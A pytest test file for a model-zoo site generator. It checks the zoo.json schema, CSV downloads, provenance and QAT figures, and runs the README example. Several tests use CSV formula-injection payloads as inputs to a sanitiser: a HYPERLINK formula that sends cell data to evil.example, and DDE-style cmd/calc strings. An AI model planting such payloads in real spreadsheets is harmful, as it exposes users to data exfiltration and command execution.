"""The downloads for scripts (generator/downloads.py): data/zoo.json against its JSON Schema (jsonschema), every
model of the real data in it and in its task's CSV with its figures as written, the float twins and QAT drops,
the provenance of each row, formula cells neutralised in the CSV (a stranger's "-QAT" or "=HYPERLINK(...)"),
and the README's three-line example run against a served copy of the built site."""

from __future__ import annotations

import copy
import csv
import functools
import http.server
import io
import json
import re
import shutil
import threading
from decimal import Decimal
from pathlib import Path

import jsonschema
import pytest
from conftest import DATA, FIXTURES, ROOT, TEMPLATES, Build

from generator.catalogue import Catalogue
from generator.downloads import ZOO_SCHEMA, csv_header, spreadsheet_safe
from generator.pipeline import Site, build_site


@pytest.fixture(scope="module")
def site() -> Site:
    return build_site(DATA, TEMPLATES, docs_dir=ROOT / "docs", display_root=ROOT)


def _zoo(site: Site) -> dict:
    return json.loads(site.assets["data/zoo.json"])


def test_zoo_json_validates_against_its_schema(site: Site) -> None:
    jsonschema.Draft202012Validator.check_schema(ZOO_SCHEMA)
    schema = json.loads(site.assets["data/zoo.schema.json"])
    assert schema == ZOO_SCHEMA
    zoo = _zoo(site)
    jsonschema.Draft202012Validator(schema).validate(zoo)
    assert zoo["$schema"] == "zoo.schema.json" and zoo["schema_version"] == 1


@pytest.mark.parametrize(
    ("change", "message"),
    [
        (lambda m: m.pop("provenance"), "'provenance' is a required property"),
        (lambda m: m.update(extra=1), "Additional properties are not allowed ('extra' was unexpected)"),
        (lambda m: m["metrics"]["top1"].update(text="72,13"), "'72,13' does not match"),
        (lambda m: m["complexity"].update(value="0.296"), "'0.296' is not of type 'number'"),
        (lambda m: m["provenance"].update(kind="guessed"), "'guessed' is not one of ['reported']"),
        (lambda m: m.update(qat="Y"), "'Y' is not of type 'boolean'"),
    ],
)
def test_the_schema_refuses_what_zoo_json_never_holds(site: Site, change, message: str) -> None:
    zoo = copy.deepcopy(_zoo(site))
    change(zoo["tasks"]["image-classification"]["models"]["edgeai-tv--mobilenetv2--224x224"])
    with pytest.raises(jsonschema.ValidationError, match=re.escape(message)):
        jsonschema.validate(zoo, ZOO_SCHEMA, cls=jsonschema.Draft202012Validator)


@pytest.mark.parametrize(
    ("change", "message"),
    [
        (lambda d: d["artifacts"]["am62a"][0].update(size=0), "0 is less than the minimum of 1"),
        (lambda d: d["artifacts"]["am62a"][0].update(size="19 MB"), "'19 MB' is not of type 'integer'"),
        (lambda d: d["artifacts"]["am62a"][0].update(recommended="Y"), "'Y' is not of type 'boolean'"),
        (
            lambda d: d["models"]["cl-3090"]["results"][0].update(precision="int4"),
            "'int4' is not one of ['float32', 'int8', 'reference']",
        ),
        (
            lambda d: d["models"]["cl-3090"]["results"][0]["provenance"].update(kind="guessed"),
            "'guessed' is not one of ['measured', 'reported']",
        ),
        (lambda d: d["models"]["cl-3090"]["results"][0].pop("provenance"), "'provenance' is a required"),
        (lambda d: d["reports"]["ti-accuracy-20250310"].update(date="10/03/2025"), "does not match"),
        (lambda d: d["devices"]["am62a"].update(extra=1), "('extra' was unexpected)"),
    ],
)
def test_the_schema_refuses_device_records_zoo_json_never_holds(site: Site, change, message: str) -> None:
    zoo = copy.deepcopy(_zoo(site))
    change(zoo["devices"])
    with pytest.raises(jsonschema.ValidationError, match=re.escape(message)):
        jsonschema.validate(zoo, ZOO_SCHEMA, cls=jsonschema.Draft202012Validator)


def test_zoo_json_holds_the_devices_records(site: Site) -> None:
    """The devices as the catalogue has them (TI's own files against zoo.json: tests/test_devices_site.py)."""
    zoo = _zoo(site)
    devices = site.catalogue.devices
    got = zoo["devices"]
    assert list(got["devices"]) == list(devices.devices)
    assert got["devices"]["am68a"]["page"] == "devices/am68a/"
    assert list(got["models"]) == list(devices.models)
    assert sum(len(m["results"]) for m in got["models"].values()) == len(devices.results) == 77 * 3
    for r in devices.results:
        (entry,) = [
            e
            for e in got["models"][r.model_id]["results"]
            if (e["device"], e["precision"]) == (r.device or None, r.precision)
        ]
        assert entry["provenance"]["line"] == r.location.line
        assert {k: v["text"] for k, v in entry["metrics"].items()} == {
            k: str(v) for k, v in r.metrics.items() if v is not None
        }
    for model_id, carrier in devices.carriers.items():
        assert got["models"][model_id]["zoo"] == {"task": carrier.task, "anchor": carrier.anchor}
        assert model_id in zoo["tasks"][carrier.task]["models"][carrier.anchor]["devices"]
    assert got["models"]["visloc-7500"]["zoo"] is None and got["models"]["visloc-7500"]["task"] is None
    assert {d: len(a) for d, a in got["artifacts"].items()} == dict.fromkeys(devices.devices, 17)
    assert got["artifacts"]["am62a"][0]["provenance"]["file"] == "devices/artifacts/am62a.csv"
    assert zoo["provenance"]["measured"].startswith("measured by the device's publisher")


def test_zoo_json_holds_every_record(site: Site) -> None:
    zoo = _zoo(site)
    catalogue: Catalogue = site.catalogue
    assert list(zoo["tasks"]) == [t.id for t in catalogue.tasks]  # the site's order
    assert set(zoo["datasets"]) == set(catalogue.datasets)
    assert set(zoo["sources"]) == set(catalogue.sources)
    assert list(zoo["references"]) == list(catalogue.references)
    for task in catalogue.tasks:
        record = zoo["tasks"][task.id]
        assert record["page"] == f"{task.id}/" and record["explorer"] == f"{task.id}/explore/"
        assert record["csv"] == f"data/{task.id}.csv"
        assert record["complexity"]["unit"] == task.complexity.unit
        assert [(m["key"], m["unit"], m["primary"]) for m in record["metrics"]] == [
            (m.key, m.unit, m is task.primary) for m in task.metrics
        ]
        models = catalogue.models_of(task.id)
        assert list(record["models"]) == [m.anchor for m in models]  # keyed by the row anchors, file order
        for m in models:
            got = record["models"][m.anchor]
            assert (got["source"], got["dataset"], got["name"], got["input_size"]) == (
                m.source,
                m.dataset,
                m.name,
                m.input_size,
            )
            if m.complexity is None:
                assert got["complexity"] is None
            else:  # as written, and its value
                assert got["complexity"]["text"] == str(m.complexity)
                assert Decimal(str(got["complexity"]["value"])) == m.complexity
            for key, value in m.metrics.items():
                assert (got["metrics"][key] or {}).get("text") == (None if value is None else str(value))
            assert got["provenance"] == {
                "kind": "reported",
                "source": m.source,
                "file": f"models/{task.id}.csv",
                "line": m.location.line,
            }
            assert got["url"].startswith(f"{task.id}/") and got["url"].endswith("#" + m.anchor)
    # the example figure and a QAT model with its float twin
    classification = zoo["tasks"]["image-classification"]["models"]
    lite0 = classification["tf-tpu--efficientnet-lite0--224x224"]
    assert lite0["complexity"] == {"text": "0.407", "value": 0.407}
    assert lite0["metrics"]["top1"] == {"text": "75.1", "value": 75.1}
    qat = classification["edgeai-tv--mobilenetv2-qat--224x224"]
    assert qat["float_model"] == "edgeai-tv--mobilenetv2--224x224"
    assert qat["qat_drop"] == {"top1": {"text": "0.37", "value": 0.37}}
    assert classification["edgeai-tv--mobilenetv2-1-4-qat--224x224"]["float_model"] is None
    assert classification["torchvision--vgg16--224x224"]["complexity"] == {"text": "15.35", "value": 15.35}


def test_each_task_csv_has_every_model(site: Site) -> None:
    catalogue: Catalogue = site.catalogue
    for task in catalogue.tasks:
        text = site.assets[f"data/{task.id}.csv"]
        rows = list(csv.DictReader(io.StringIO(text)))
        assert list(rows[0]) == csv_header(task)
        models = catalogue.models_of(task.id)
        assert [r["id"] for r in rows] == [m.anchor for m in models]
        for row, m in zip(rows, models, strict=True):
            assert row["name"] == m.name and row["input_size"] == m.input_size
            assert row[task.complexity.key] == ("" if m.complexity is None else str(m.complexity))
            for key, value in m.metrics.items():
                assert row[key] == ("" if value is None else str(value))
            assert row["qat"] == ("Y" if m.qat else "")
            assert row["provenance"] == f"reported by {m.source}: models/{task.id}.csv:{m.location.line}"
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(site.assets["data/semantic-segmentation.csv"]))}
    qat = rows["edgeai-tensorvision--mobilenetv2-fpnlite-qat--768x384--cityscapes"]
    assert (qat["float_model"], qat["qat_drop"]) == (
        "edgeai-tensorvision--mobilenetv2-fpnlite--768x384--cityscapes",
        "0.51",  # 70.39 - 69.88
    )


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("-QAT", "'-QAT"),
        (
            '=HYPERLINK("https://evil.example/?"&A1,"click")',
            '\'=HYPERLINK("https://evil.example/?"&A1,"click")',
        ),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-1+1", "'-1+1"),
        ("-0.12", "-0.12"),  # a plain negative number (a QAT drop): no spreadsheet runs it
        ("-3", "-3"),
        ("MobileNetV2-QAT", "MobileNetV2-QAT"),
        ("", ""),
        ("72.13", "72.13"),
    ],
)
def test_spreadsheet_safe(cell: str, safe: str) -> None:
    assert spreadsheet_safe(cell) == safe


def test_hostile_cells_are_neutralised_in_the_csv_and_kept_in_the_json(tmp_path: Path) -> None:
    data = shutil.copytree(FIXTURES / "two-tasks", tmp_path / "data")
    models = data / "models" / "image-classification.csv"
    lines = models.read_text(encoding="utf-8").splitlines()
    lines += [
        "alpha,,imagenet,-QAT,224x224,0.5,70,,Y,,",
        'alpha,,imagenet,"=HYPERLINK(""https://evil.example/?""&A1,""x"")",224x224,0.5,70,,,,',
        "alpha,,imagenet,@cmd,224x224,0.5,70,,,,",
        "alpha,QAT models,imagenet,NetB-QAT,224x224,,75.6,,Y,+1 better than float,",
    ]
    lines.insert(1, "alpha,,imagenet,NetB,224x224,,75.1,,,,")  # float twin of NetB-QAT (better QAT)
    models.write_text("\n".join(lines) + "\n", encoding="utf-8")
    site = build_site(data, TEMPLATES)
    text = site.assets["data/image-classification.csv"]
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(text))}
    assert rows["alpha--qat--224x224"]["name"] == "'-QAT"
    assert rows["alpha--hyperlink-https-evil-example-a1-x--224x224"]["name"] == (
        '\'=HYPERLINK("https://evil.example/?"&A1,"x")'
    )
    assert rows["alpha--cmd--224x224"]["name"] == "'@cmd"
    netb = rows["alpha--netb-qat--224x224"]
    assert netb["notes"] == "'+1 better than float"
    assert (netb["float_model"], netb["qat_drop"]) == ("alpha--netb--224x224", "-0.5")  # a number: kept
    # every cell of the file: none starts like a formula (but the negative drop)
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")] == ["-0.5"]
    # the JSON holds the text as written
    zoo = json.loads(site.assets["data/zoo.json"])
    names = [m["name"] for m in zoo["tasks"]["image-classification"]["models"].values()]
    assert {"-QAT", '=HYPERLINK("https://evil.example/?"&A1,"x")', "@cmd"} <= set(names)
    jsonschema.validate(zoo, ZOO_SCHEMA, cls=jsonschema.Draft202012Validator)


class _Quiet(http.server.SimpleHTTPRequestHandler):
    def log_message(self, format: str, *args: object) -> None:
        pass


def test_the_readme_example_loads_the_downloads(seed_site: Build) -> None:
    """The README's three lines, run as written against a served copy of the built site (the site's URL
    replaced by the local server's)."""
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    (block,) = re.findall(r"```python\n(.*?)```", readme, re.S)
    code = [line for line in block.splitlines() if line and not line.startswith("#")]
    assert len(code) == 4 and code[0].startswith("import "), code  # the imports, and three lines
    server = http.server.ThreadingHTTPServer(
        ("127.0.0.1", 0), functools.partial(_Quiet, directory=seed_site.site)
    )
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        base = f"http://127.0.0.1:{server.server_port}/"
        site_url = "https://modelzoo-docs.github.io/modelzoo-docs/"  # mkdocs.yml's site_url
        assert site_url in block
        scope: dict = {}
        exec("\n".join(code).replace(site_url, base), scope)  # the README's own code
    finally:
        server.shutdown()
        server.server_close()
    zoo, rows = scope["zoo"], scope["rows"]
    assert zoo["schema_version"] == 1 and "image-classification" in zoo["tasks"]
    assert rows[0]["id"] == "edgeai-tv--mobilenetv1--224x224" and rows[0]["top1"] == "71.83"
    assert len(rows) == len(zoo["tasks"]["image-classification"]["models"]) == 58
